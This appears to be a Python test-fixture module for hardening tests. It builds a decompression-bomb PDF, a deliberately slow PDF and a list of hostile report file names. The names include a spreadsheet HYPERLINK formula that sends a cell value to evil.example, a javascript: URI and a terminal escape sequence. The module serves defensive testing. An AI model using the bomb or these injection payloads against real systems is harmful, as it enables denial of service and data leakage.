"""Crafted files for the hardening tests (issue 16): a decompression-bomb PDF, a slow PDF, hostile names.

Built here, never committed: the bomb is a 1.2 MB PDF whose one content stream inflates to
1.2 GB of spaces; the slow PDF is one page holding tens of thousands of words at scattered
positions (its extraction runs for minutes on a two-core machine).
"""

from __future__ import annotations

import os
import random
import socket
import zlib
from pathlib import Path

BODY = "I handled the customer's complaint and worked with the billing team to fix the fault quickly. " * 12

#: Report names that try to become code or to take another file's place.
HOSTILE_NAMES = (
    '=HYPERLINK("http:__evil.example_?x="&B2,"Open").md',
    "javascript:alert(document.domain).md",
    "cohort.md",
    "+plus.md",
    "-minus.md",
    "@at.md",
    "esc\x1b]0;retitled\x07name.md",
    "cost $\\frac{a$ report.md",
)


def report_text(title: str = "Title") -> str:
    """A small report with two body sections."""
    return f"# {title}\n\n## Background\n\n{BODY}\n\n## What I did\n\n{BODY}\n"


def pdf_with_stream(stream: bytes, *, deflated: bool) -> bytes:
    """A one-page PDF whose page draws ``stream`` (Helvetica as /F1)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d%s >>\nstream\n" % (len(stream), b" /Filter /FlateDecode" if deflated else b"")
        + stream
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    data = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(data))
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    data += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return data


def bomb_pdf(inflated_mb: int = 1200) -> bytes:
    """A PDF of about 1/1000 of ``inflated_mb`` whose content stream inflates to ``inflated_mb`` MB."""
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(b"BT /F1 12 Tf 72 720 Td (Introduction) Tj ET\n")]
    chunk = b" " * (1 << 20)
    parts += [compressor.compress(chunk) for _ in range(inflated_mb)]
    parts.append(compressor.flush())
    return pdf_with_stream(b"".join(parts), deflated=True)


def slow_pdf(words: int = 50_000, *, seed: int = 1) -> bytes:
    """One page with ``words`` words, each placed at a random position."""
    rnd = random.Random(seed)
    operators = ["BT /F1 6 Tf"]
    operators += [
        "1 0 0 1 %.1f %.1f Tm (w%d) Tj" % (rnd.uniform(0, 600), rnd.uniform(0, 780), index) for index in range(words)
    ]
    operators.append("ET")
    return pdf_with_stream(zlib.compress("\n".join(operators).encode("latin-1"), 9), deflated=True)


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def tree_rss_mb(root: int) -> float:
    """The resident memory of a process and all its descendants (from /proc), in MB."""
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            fields = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        children.setdefault(int(fields[1]), []).append(int(entry))
    total_kb, todo = 0, [root]
    while todo:
        pid = todo.pop()
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        total_kb += next((int(line.split()[1]) for line in status.splitlines() if line.startswith("VmRSS:")), 0)
        todo += children.get(pid, [])
    return total_kb / 1024
